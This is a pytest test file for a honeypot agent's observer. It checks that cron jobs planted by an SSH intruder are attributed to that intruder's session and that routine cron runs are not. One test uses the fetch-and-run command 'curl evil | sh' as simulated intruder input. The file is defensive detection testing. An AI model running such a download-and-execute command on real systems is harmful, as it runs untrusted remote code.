"""What daemons do on an intruder's orders is the intruder's, and what they do by themselves is nobody's."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from decnet_agent.tap.decoding import Flow, Record
from decnet_agent.tap.observer import Observer, Watched
from decnet_agent.tap.programs import Kind
from decnet_core.events import Event, EventType
from tests.tap.records import NAMESPACE, SECOND, packed

SHELL, CRON = 300, 40
FLOW = Flow("10.0.0.9", 40000, "10.0.0.1", 22)


class Machine:
    """Instead of /proc, where these pids are nobody's: one process of the SSH server, with one connection."""

    def running(self, _namespace: int) -> Iterator[Record]:
        return iter(())

    def program_of(self, pid: int) -> bytes:
        return b"/usr/sbin/sshd" if pid == 200 else b""

    def served_flows(self, _pid: int) -> frozenset[Flow]:
        return frozenset({FLOW})

    def served_ports(self, _pid: int) -> frozenset[int]:
        return frozenset({FLOW.dst_port})

    def server_user(self, _pid: int) -> str | None:
        return None


class Decky:
    """A decky with a cron daemon and one visitor's shell, told of by kernel records."""

    def __init__(self) -> None:
        self.events: list[Event] = []
        self.observer = Observer(self.events.append, Machine())
        self.observer.watch(Watched("web-01", "c0ffee", 2, NAMESPACE))
        self.take(Kind.FORKED, pid=CRON, name=b"cron")
        self.take(Kind.FORKED, pid=200, name=b"sshd")
        self.take(Kind.FORKED, pid=SHELL, parent=200, name=b"sshd")
        self.run(SHELL, b"/bin/bash", b"-bash", terminal=True)
        self.take(Kind.PROMPTED, pid=SHELL)
        self.events.clear()

    def take(self, kind: Kind, *, pid: int, parent: int = 1, **more: Any) -> None:
        times = {"started_ns": pid * SECOND, "parent_started_ns": parent * SECOND}
        self.observer.take(packed(kind, pid=pid, parent=parent, **times, **more))

    def run(self, pid: int, file: bytes, *words: bytes, terminal: bool = False) -> None:
        text = b"".join(word + b"\0" for word in words)
        self.take(Kind.EXECUTED, pid=pid, file=file, text=text, terminal=terminal)

    def cron_runs(self, pid: int, file: bytes, *words: bytes) -> None:
        self.take(Kind.FORKED, pid=pid, parent=CRON, name=b"cron")
        self.run(pid, file, *words)

    def writes(self, path: str) -> None:
        process = self.observer.writer(SHELL, path)
        assert process is not None
        self.observer.named(process, path)


@pytest.fixture
def decky() -> Decky:
    return Decky()


def test_cron_by_itself_is_nobody(decky):
    decky.cron_runs(400, b"/bin/sh", b"sh", b"-c", b"run-parts /etc/cron.hourly")
    decky.writes("/home/bob/notes")
    decky.cron_runs(401, b"/bin/sh", b"sh", b"-c", b"run-parts /etc/cron.hourly")
    assert decky.events == []
    assert decky.observer.writer(401, "/var/log/some.log") is None


@pytest.mark.parametrize("path", ["/etc/cron.d/x", "/var/spool/cron/crontabs/bob", "/etc/inittab"])
def test_what_cron_does_on_orders_is_the_visitors(decky, path):
    decky.writes(path)
    decky.cron_runs(400, b"/bin/sh", b"sh", b"-c", b"curl evil | sh")
    decky.take(Kind.FORKED, pid=401, parent=400, name=b"sh")
    decky.run(401, b"/usr/bin/curl", b"curl", b"evil")
    assert [event.fields["command"] for event in decky.events] == ["sh -c 'curl evil | sh'", "curl evil"]
    assert {(event.event_type, event.src_ip, event.fields["startup"]) for event in decky.events} == {
        (EventType.COMMAND_RUN, "10.0.0.9", "true")
    }
    assert len({event.session for event in decky.events}) == 1
    assert decky.observer.writer(401, "/tmp/dropped") is not None


@pytest.mark.parametrize("words", [(b"/opt/tool", b"tool"), (b"/bin/sh", b"sh", b"/opt/tool")])
def test_a_program_that_a_visitor_wrote_is_his_whoever_runs_it(decky, words):
    decky.writes("/opt/tool")
    decky.cron_runs(400, *words)
    assert [event.src_ip for event in decky.events] == ["10.0.0.9"]


def test_a_decky_that_is_gone_takes_its_orders_along(decky):
    decky.writes("/etc/cron.d/x")
    decky.observer.forget(NAMESPACE)
    decky.observer.watch(Watched("web-02", "c0de", 2, NAMESPACE))
    decky.cron_runs(400, b"/bin/sh", b"sh", b"-c", b"true")
    assert decky.events == []


def test_what_the_server_s_own_code_writes_for_a_visitor_is_his_but_for_its_records(decky):
    """`internal-sftp` runs within the SSH server's process."""
    decky.take(Kind.FORKED, pid=210, parent=200, name=b"sshd")
    assert decky.observer.writer(210, "/home/bob/uploaded") is not None
    assert decky.observer.writer(210, "/var/log/wtmp") is None
